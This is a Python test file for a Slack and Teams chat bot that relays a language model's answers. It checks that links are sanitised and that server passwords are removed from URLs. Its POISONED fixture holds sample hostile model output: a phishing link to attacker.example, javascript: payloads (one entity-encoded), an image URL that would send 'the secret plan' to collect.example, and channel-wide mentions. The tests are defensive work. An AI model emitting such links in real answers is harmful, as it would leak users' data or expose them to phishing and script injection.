"""Links a model writes cannot mislead or leak: only http, https and mailto links are shown
as links, a link whose text is not its address shows its host, images become links, no
message unfurls; Slack (streamed Markdown and mrkdwn) and Teams alike. And no URL leaves
the process with its password (``/readyz``, ``/metrics``)."""

from __future__ import annotations

import aiohttp
import pytest

from adapters.reply.links import LinkGuard, safe_links
from adapters.slack.render import to_mrkdwn
from adapters.teams.render import to_teams_markdown
from inference.urls import public_url
from tests.fakes.ollama import FakeOllama
from tests.fakes.slack import FakeSlack
from tests.support.harness import SlackBotUnderTest, running_bot, slack_settings
from tests.support.slack_payloads import CHANNEL, mention, slash

TS = "1700000000.000100"
POISONED = (
    "To fix it, [Reset your SSO password](https://attacker.example/reset?u=1). "
    "Or [click here](javascript:alert(document.cookie)) or [this](&#106;avascript:x). "
    "![status](https://collect.example/p.png?answer=the+secret+plan) "
    "Docs: [https://docs.example.com/a](https://docs.example.com/a), "
    "[docs.example.com](https://docs.example.com/b), <javascript:void(0)>, "
    "[mail us](mailto:help@attacker.example). <!channel> <!here> <@U999>\n"
)


def test_markdown_links_are_made_safe() -> None:
    assert safe_links(POISONED) == (
        "To fix it, [Reset your SSO password (attacker.example)]"
        "(https://attacker.example/reset?u=1). Or click here or this. "
        "[status (collect.example)](https://collect.example/p.png?answer=the+secret+plan) "
        "Docs: [https://docs.example.com/a](https://docs.example.com/a), "
        "[docs.example.com](https://docs.example.com/b), javascript:void(0), "
        "[mail us (help@attacker.example)](mailto:help@attacker.example). "
        "<!channel> <!here> <@U999>\n"
    )
    # A look-alike host is shown as the browser reaches it.
    assert safe_links("[bank](https://exаmple.com/)") == (
        "[bank (xn--exmple-4nf.com)](https://exаmple.com/)"
    )
    # Already safe text stays as it is (a relative link is no link on any platform).
    for text in ("[a (x.io)](https://x.io/a)", "[rel](./a.md)", "[1] and [2]", "a < b"):
        assert safe_links(text) == text


@pytest.mark.parametrize("step", [1, 2, 3, 5, 7, 11, 64])
def test_a_streamed_answer_gets_the_same_links_however_it_is_cut(step: int) -> None:
    guard = LinkGuard()
    shown = "".join(guard.feed(POISONED[i : i + step]) for i in range(0, len(POISONED), step))
    assert shown + guard.flush() == safe_links(POISONED)


def test_slack_mrkdwn_links() -> None:
    shown = to_mrkdwn(POISONED)
    assert "<https://attacker.example/reset?u=1|Reset your SSO password (attacker.example)>" in (
        shown
    )
    assert "javascript" not in shown.replace("javascript:void(0)", "")
    assert "click here" in shown and "<javascript" not in shown
    assert "<https://collect.example/p.png?answer=the+secret+plan|status (collect.example)>" in (
        shown
    )
    assert "<https://docs.example.com/a>" in shown
    assert "<https://docs.example.com/b|docs.example.com>" in shown
    # Mentions are never made by an answer.
    assert "&lt;!channel&gt; &lt;!here&gt; &lt;@U999&gt;" in shown


def test_teams_links_and_every_streamed_prefix_extends_the_last() -> None:
    final = to_teams_markdown(POISONED)
    assert final == safe_links(POISONED)
    previous = ""
    for end in range(len(POISONED) + 1):
        shown = to_teams_markdown(POISONED[:end], complete=False)
        assert final.startswith(shown)
        assert shown.startswith(previous.rstrip("\n")) or shown == ""
        previous = shown or previous


def _unfurls(slack: FakeSlack) -> list[tuple[object, object]]:
    return [
        (c.args.get("unfurl_links"), c.args.get("unfurl_media"))
        for c in slack.calls_to("chat.postMessage")
    ]


async def test_a_streamed_slack_answer_carries_only_safe_links(
    slack_bot: SlackBotUnderTest,
) -> None:
    slack_bot.ollama.reply = POISONED
    await slack_bot.post_event(mention("how do I fix my login?", TS))
    await slack_bot.settle()
    assert slack_bot.slack.calls_to("chat.startStream")
    assert slack_bot.slack.thread_text(CHANNEL, TS).strip() == safe_links(POISONED).strip()


async def test_slack_messages_never_unfurl(slack_bot: SlackBotUnderTest) -> None:
    slack_bot.slack.refuse_streaming = True
    slack_bot.ollama.reply = POISONED
    await slack_bot.post_event(mention("how do I fix my login?", TS))
    await slack_bot.settle()
    [message] = slack_bot.slack.messages(CHANNEL, TS)
    assert "|Reset your SSO password (attacker.example)>" in message.text
    assert "<javascript" not in message.text and "&lt;!channel&gt;" in message.text
    await slack_bot.post_command(
        slash("/ask", "see https://x.example/", response_url=slack_bot.slack.response_url())
    )
    await slack_bot.settle()
    unfurls = _unfurls(slack_bot.slack)
    assert len(unfurls) >= 2 and set(unfurls) == {(False, False)}


async def test_readyz_and_metrics_never_show_a_model_servers_password(
    fake_slack: FakeSlack, fake_ollama: FakeOllama, redis_url: str, database_url: str
) -> None:
    with_password = fake_ollama.url.replace("http://", "http://admin:s3cret-pw@")
    settings = slack_settings(fake_slack, fake_ollama, redis_url, database_url)
    settings = settings.model_copy(update={"ollama_base_url": with_password})
    async with running_bot(settings, fake_slack, fake_ollama) as bot:
        for path in ("/readyz", "/metrics"):
            async with aiohttp.ClientSession() as http, http.get(f"{bot.url}{path}") as resp:
                body = await resp.text()
            assert "s3cret-pw" not in body and "admin" not in body
            assert fake_ollama.url in body, path


def test_credentials_leave_no_url() -> None:
    assert public_url("http://admin:p@ss@gpu:11434/x?a=b@c") == "http://gpu:11434/x?a=b@c"
    assert public_url("redis://:pw@redis:6379/0") == "redis://redis:6379/0"
    assert public_url("fatal: unable to access 'https://tok:x@git.example/a.git/'") == (
        "fatal: unable to access 'https://git.example/a.git/'"
    )
    assert public_url("http://gpu:11434") == "http://gpu:11434"
